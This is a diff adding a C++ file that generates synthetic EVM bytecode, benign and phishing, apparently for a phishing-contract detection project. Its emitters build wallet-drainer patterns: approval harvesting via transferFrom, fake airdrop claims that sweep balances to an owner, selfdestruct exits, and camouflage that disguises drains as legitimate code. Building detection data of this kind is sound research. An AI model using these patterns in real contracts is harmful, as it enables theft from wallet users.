@@ -1,0 +1,367 @@
+#include "synth/patterns.hpp"
+
+#include <array>
+
+namespace phishinghook::synth {
+
+namespace {
+
+// keccak256("Transfer(address,address,uint256)") — the ERC-20 event topic.
+const U256 kTransferTopic = U256::from_string(
+    "0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef");
+
+// keccak256("Approval(address,address,uint256)").
+const U256 kApprovalTopic = U256::from_string(
+    "0x8c5be1e5ebec7d5bd14f71427d1e84f3dd0314c0f7b2291e5b200ac8c7c3b925");
+
+constexpr std::uint32_t kTransferFromSelector = 0x23b872dd;
+
+void push_address(Assembler& a, const Address& address) {
+  a.push_bytes(address.bytes());
+}
+
+}  // namespace
+
+void emit_prelude(Assembler& a) {
+  a.push(0x80).push(0x40).op(Op::kMstore);
+}
+
+void emit_revert(Assembler& a) {
+  a.op(Op::kPush0).op(Op::kPush0).op(Op::kRevert);
+}
+
+void emit_callvalue_guard(Assembler& a) {
+  const Label ok = a.make_label();
+  a.op(Op::kCallvalue).op(Op::kIszero);
+  a.jump_if(ok);
+  emit_revert(a);
+  a.bind(ok);
+}
+
+void emit_return_word(Assembler& a) {
+  a.push(0x80).op(Op::kMstore);
+  a.push(0x20).push(0x80).op(Op::kReturn);
+}
+
+void emit_return_empty(Assembler& a) {
+  a.op(Op::kPush0).op(Op::kPush0).op(Op::kReturn);
+}
+
+void emit_load_selector(Assembler& a) {
+  a.op(Op::kPush0).op(Op::kCalldataload).push(0xE0).op(Op::kShr);
+}
+
+void emit_metadata_trailer(Assembler& a, Rng& rng) {
+  // solc appends CBOR metadata after an INVALID separator:
+  //   0xfe a264 "ipfs" 5822 <34-byte multihash> 64 "solc" 43 <3-byte version>
+  //   <2-byte length>
+  a.raw(0xFE);
+  a.raw(0xA2).raw(0x64);
+  for (char c : {'i', 'p', 'f', 's'}) a.raw(static_cast<std::uint8_t>(c));
+  a.raw(0x58).raw(0x22);
+  for (int i = 0; i < 34; ++i) {
+    a.raw(static_cast<std::uint8_t>(rng.next_below(256)));
+  }
+  a.raw(0x64);
+  for (char c : {'s', 'o', 'l', 'c'}) a.raw(static_cast<std::uint8_t>(c));
+  a.raw(0x43);
+  a.raw(0x00).raw(0x08).raw(static_cast<std::uint8_t>(17 + rng.next_below(10)));
+  a.raw(0x00).raw(0x33);
+}
+
+void emit_mapping_slot_for_caller(Assembler& a, std::uint64_t slot) {
+  // keccak256(abi.encode(caller, slot)) — solc's mapping layout.
+  a.op(Op::kCaller).op(Op::kPush0).op(Op::kMstore);
+  a.push(slot).push(0x20).op(Op::kMstore);
+  a.push(0x40).op(Op::kPush0).op(Op::kSha3);
+}
+
+void emit_checked_add(Assembler& a) {
+  // [a, b] -> [a + b], reverting on wrap (solc 0.8 checked arithmetic).
+  const Label ok = a.make_label();
+  a.op(Op::kDup2).op(Op::kAdd);           // [a, s]
+  a.op(Op::kDup2).op(Op::kDup2).op(Op::kLt);  // s < a <=> overflow
+  a.op(Op::kIszero);
+  a.jump_if(ok);
+  emit_revert(a);
+  a.bind(ok);
+  a.op(Op::kSwap1).op(Op::kPop);  // [s]
+}
+
+void emit_checked_sub(Assembler& a) {
+  // [m, s] -> [m - s], reverting on underflow.
+  const Label ok = a.make_label();
+  a.op(Op::kDup2).op(Op::kDup2).op(Op::kGt);  // s > m <=> underflow
+  a.op(Op::kIszero);
+  a.jump_if(ok);
+  emit_revert(a);
+  a.bind(ok);
+  a.op(Op::kSwap1).op(Op::kSub);  // SUB computes top - second == m - s
+}
+
+void emit_transfer_event(Assembler& a, Rng& rng) {
+  // [amount] -> [] ; LOG3(Transfer, from=caller, to=caller-ish).
+  a.push(0x80).op(Op::kMstore);
+  if (rng.bernoulli(0.5)) {
+    a.op(Op::kCaller);
+  } else {
+    push_address(a, random_address(rng));
+  }
+  a.op(Op::kCaller);
+  a.push(rng.bernoulli(0.85) ? kTransferTopic : kApprovalTopic);
+  a.push(0x20).push(0x80).op(Op::kLog3);
+}
+
+void emit_gas_check(Assembler& a, std::uint64_t min_gas) {
+  const Label ok = a.make_label();
+  a.op(Op::kGas).push(min_gas).op(Op::kLt);  // min < gas  <=> enough left
+  a.jump_if(ok);
+  emit_revert(a);
+  a.bind(ok);
+}
+
+void emit_safe_external_call(Assembler& a, const Address& target) {
+  // solc's external-call sequence: forward GAS (all remaining, post-check),
+  // then branch on the success flag — the shape behind the paper's Fig. 9
+  // observation that well-structured contracts touch GAS around calls.
+  const Label ok = a.make_label();
+  a.op(Op::kPush0).op(Op::kPush0).op(Op::kPush0).op(Op::kPush0);  // ret/in
+  a.op(Op::kPush0);                                               // value
+  push_address(a, target);
+  a.op(Op::kGas);
+  a.op(Op::kCall);
+  a.jump_if(ok);
+  emit_revert(a);
+  a.bind(ok);
+}
+
+void emit_getter_body(Assembler& a, std::uint64_t slot) {
+  a.push(slot).op(Op::kSload);
+  emit_return_word(a);
+}
+
+void emit_token_move_body(Assembler& a, Rng& rng, std::uint64_t slot) {
+  a.push(0x04).op(Op::kCalldataload);     // [amt]
+  emit_mapping_slot_for_caller(a, slot);  // [amt, slot]
+  a.op(Op::kDup1).op(Op::kSload);         // [amt, slot, bal]
+  a.op(Op::kDup3);                        // [amt, slot, bal, amt]
+  emit_checked_sub(a);                    // [amt, slot, bal - amt]
+  a.op(Op::kSwap1).op(Op::kSstore);       // [amt]
+  emit_transfer_event(a, rng);            // []
+  a.push(1);
+  emit_return_word(a);
+}
+
+void emit_vault_withdraw_body(Assembler& a, Rng& rng,
+                              std::uint64_t guard_slot) {
+  // Reentrancy guard (check, set), explicit gas management, guarded call,
+  // guard clear — the disciplined withdraw shape.
+  const Label not_entered = a.make_label();
+  a.push(guard_slot).op(Op::kSload).op(Op::kIszero);
+  a.jump_if(not_entered);
+  emit_revert(a);
+  a.bind(not_entered);
+  a.push(1).push(guard_slot).op(Op::kSstore);
+  emit_gas_check(a, 2500 + rng.next_below(3000));
+  emit_safe_external_call(a, random_address(rng));
+  a.op(Op::kPush0).push(guard_slot).op(Op::kSstore);
+  emit_return_empty(a);
+}
+
+void emit_benign_filler(Assembler& a, Rng& rng, int complexity) {
+  for (int i = 0; i < complexity; ++i) {
+    switch (rng.next_below(7)) {
+      case 0:  // inlined pure arithmetic
+        a.push(rng.next_below(1 << 16)).push(rng.next_below(1 << 16));
+        a.op(rng.bernoulli(0.5) ? Op::kAdd : Op::kMul).op(Op::kPop);
+        break;
+      case 1:  // scratch memory traffic
+        a.push(rng.next_below(1 << 24)).push(0xA0 + 0x20 * rng.next_below(4));
+        a.op(Op::kMstore);
+        break;
+      case 2:  // time / block reads (vesting-style checks)
+        a.op(rng.bernoulli(0.5) ? Op::kTimestamp : Op::kNumber);
+        a.push(1700000000 + rng.next_below(40000000)).op(Op::kLt).op(Op::kPop);
+        break;
+      case 3:  // constant hash of a scratch word
+        a.push(0x20).push(0x80).op(Op::kSha3).op(Op::kPop);
+        break;
+      case 4:  // masked shift chain (abi packing leftovers)
+        a.push(rng.next_below(1 << 20)).push(8 * (1 + rng.next_below(8)));
+        a.op(Op::kShl).push(0xFF).op(Op::kAnd).op(Op::kPop);
+        break;
+      case 5:  // hardcoded protocol address (router/WETH constants are
+               // everywhere in legitimate DeFi code)
+        push_address(a, random_address(rng));
+        a.op(rng.bernoulli(0.5) ? Op::kExtcodesize : Op::kBalance);
+        a.op(Op::kPop);
+        break;
+      default:  // comparison cascade
+        a.op(Op::kCallvalue).op(Op::kIszero).op(Op::kIszero).op(Op::kPop);
+        break;
+    }
+  }
+}
+
+void emit_cold_sweep_body(Assembler& a, Rng& rng, std::uint64_t wallet_slot) {
+  // Nothing to do when the balance is zero.
+  const Label has_funds = a.make_label();
+  a.op(Op::kSelfbalance).op(Op::kIszero).op(Op::kIszero);
+  a.jump_if(has_funds);
+  emit_return_empty(a);
+  a.bind(has_funds);
+  emit_gas_check(a, 2300 + rng.next_below(3000));
+  // CALL(cold_wallet, SELFBALANCE) with a success check.
+  const Label ok = a.make_label();
+  a.op(Op::kPush0).op(Op::kPush0).op(Op::kPush0).op(Op::kPush0);  // ret/in
+  a.op(Op::kSelfbalance);                                         // value
+  a.push(wallet_slot).op(Op::kSload);                             // addr
+  a.op(Op::kGas);
+  a.op(Op::kCall);
+  a.jump_if(ok);
+  emit_revert(a);
+  a.bind(ok);
+  a.op(Op::kSelfbalance);  // emit the swept amount (now zero) in the event
+  emit_transfer_event(a, rng);
+  emit_return_empty(a);
+}
+
+void emit_sweep_balance(Assembler& a, const Address& owner, Rng& rng) {
+  a.op(Op::kPush0).op(Op::kPush0).op(Op::kPush0).op(Op::kPush0);
+  a.op(Op::kSelfbalance);
+  push_address(a, owner);
+  if (rng.bernoulli(0.75)) {
+    a.push(0x7530 + rng.next_below(0x80000));  // hardcoded gas, no management
+  } else {
+    a.op(Op::kGas);
+  }
+  a.op(Op::kCall).op(Op::kPop);  // success flag ignored
+}
+
+void emit_origin_gate(Assembler& a, const Address& owner,
+                      Label continue_label) {
+  a.op(Op::kOrigin);
+  push_address(a, owner);
+  a.op(Op::kEq);
+  a.jump_if(continue_label);
+}
+
+void emit_approval_harvest(Assembler& a, const Address& token,
+                           const Address& owner) {
+  // calldata = transferFrom(caller -> owner, MAX_UINT256)
+  a.push_selector(kTransferFromSelector);
+  a.push(0xE0).op(Op::kShl).op(Op::kPush0).op(Op::kMstore);
+  a.op(Op::kCaller).push(0x04).op(Op::kMstore);
+  push_address(a, owner);
+  a.push(0x24).op(Op::kMstore);
+  a.push(U256::max()).push(0x44).op(Op::kMstore);
+  a.push(0x20).push(0x80);        // ret
+  a.push(0x64).op(Op::kPush0);    // in: 100 bytes at 0
+  a.op(Op::kPush0);               // value
+  push_address(a, token);
+  a.push(0x30D40);                // hardcoded 200k gas — kit-style
+  a.op(Op::kCall).op(Op::kPop);
+}
+
+void emit_selfdestruct_exit(Assembler& a, const Address& owner) {
+  push_address(a, owner);
+  a.op(Op::kSelfdestruct);
+}
+
+void emit_fake_claim_body(Assembler& a, Rng& rng, const Address& owner) {
+  // Bait event so the wallet UI shows activity...
+  U256 bait_topic;
+  for (int i = 0; i < 4; ++i) {
+    bait_topic = (bait_topic << 64) | U256(rng.next_u64());
+  }
+  a.push(bait_topic).op(Op::kPush0).op(Op::kPush0).op(Op::kLog1);
+  // ...then quietly drain.
+  emit_sweep_balance(a, owner, rng);
+  emit_return_empty(a);
+}
+
+void emit_stealth_drain_body(Assembler& a, Rng& rng, const Address& owner) {
+  emit_gas_check(a, 2300 + rng.next_below(3000));
+  // "claimed[caller] = 1" bookkeeping, like a legitimate airdrop.
+  a.push(1);
+  emit_mapping_slot_for_caller(a, 16 + rng.next_below(8));
+  a.op(Op::kSstore);
+  // Guarded full-balance transfer to the owner, success-checked.
+  const Label ok = a.make_label();
+  a.op(Op::kPush0).op(Op::kPush0).op(Op::kPush0).op(Op::kPush0);  // ret/in
+  a.op(Op::kSelfbalance);                                          // value
+  push_address(a, owner);
+  a.op(Op::kGas);
+  a.op(Op::kCall);
+  a.jump_if(ok);
+  emit_revert(a);
+  a.bind(ok);
+  // A Transfer event so the victim's wallet renders a plausible claim.
+  a.push(1 + rng.next_below(10000));
+  emit_transfer_event(a, rng);
+  emit_return_empty(a);
+}
+
+void emit_camouflage(Assembler& a, Rng& rng, double obfuscation) {
+  if (rng.bernoulli(obfuscation)) {
+    // Fake balance bookkeeping: mapping read (SHA3 + scratch MSTOREs).
+    emit_mapping_slot_for_caller(a, rng.next_below(8));
+    a.op(Op::kSload).op(Op::kPop);
+  }
+  if (rng.bernoulli(obfuscation)) {
+    // Checked arithmetic over calldata, as an amount validation would do.
+    a.push(0x04).op(Op::kCalldataload);
+    a.push(0x24).op(Op::kCalldataload);
+    emit_checked_add(a);
+    a.op(Op::kPop);
+  }
+  if (rng.bernoulli(obfuscation)) {
+    emit_gas_check(a, 2300 + rng.next_below(3000));
+  }
+  if (rng.bernoulli(obfuscation)) {
+    // A real storage write: the drainer keeps "claimed[caller]" like a
+    // legitimate airdrop would.
+    a.push(1);
+    emit_mapping_slot_for_caller(a, 16 + rng.next_below(8));
+    a.op(Op::kSstore);
+  }
+  if (rng.bernoulli(obfuscation)) {
+    emit_benign_filler(a, rng,
+                       2 + static_cast<int>(rng.next_below(
+                           2 + static_cast<std::uint64_t>(6.0 * obfuscation))));
+  }
+  if (rng.bernoulli(obfuscation * 0.8)) {
+    a.push(1 + rng.next_below(1000));
+    emit_transfer_event(a, rng);
+  }
+}
+
+Bytecode minimal_proxy_runtime(const Address& implementation) {
+  // ERC-1167: 363d3d373d3d3d363d73 <impl> 5af43d82803e903d91602b57fd5bf3
+  std::vector<std::uint8_t> code = {0x36, 0x3d, 0x3d, 0x37, 0x3d,
+                                    0x3d, 0x3d, 0x36, 0x3d, 0x73};
+  code.insert(code.end(), implementation.bytes().begin(),
+              implementation.bytes().end());
+  const std::array<std::uint8_t, 15> suffix = {0x5a, 0xf4, 0x3d, 0x82, 0x80,
+                                               0x3e, 0x90, 0x3d, 0x91, 0x60,
+                                               0x2b, 0x57, 0xfd, 0x5b, 0xf3};
+  code.insert(code.end(), suffix.begin(), suffix.end());
+  return Bytecode(std::move(code));
+}
+
+std::uint32_t random_selector(Rng& rng) {
+  std::uint32_t selector = 0;
+  while (selector == 0) {
+    selector = static_cast<std::uint32_t>(rng.next_u64());
+  }
+  return selector;
+}
+
+Address random_address(Rng& rng) {
+  std::array<std::uint8_t, Address::kSize> bytes{};
+  for (auto& b : bytes) b = static_cast<std::uint8_t>(rng.next_below(256));
+  if (bytes[0] == 0) bytes[0] = 0x7F;  // avoid precompile-range addresses
+  return Address::from_bytes(bytes);
+}
+
+}  // namespace phishinghook::synth
